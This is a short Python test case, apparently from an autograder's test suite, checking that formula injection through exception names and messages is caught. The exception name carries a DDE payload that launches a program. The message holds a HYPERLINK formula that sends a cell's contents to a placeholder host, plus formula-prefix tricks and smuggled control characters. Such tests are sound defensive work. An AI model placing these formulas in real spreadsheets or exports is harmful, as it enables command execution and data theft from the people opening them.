# ---
# tries: Have a spreadsheet calculate a name or a message of the table of grades.
# must:
#   outcome: [graded, flagged]
#   execution: cell_error
#   criteria: {runs: [failed, partial]}
# ---
class Formula(Exception):
    pass


Formula.__name__ = "=cmd|' /C calc'!A0"
raise Formula("=HYPERLINK(\"http://127.0.0.1:@port@/?\"&A1,\"points\")\t@SUM(1+1)\r\n+1-1")
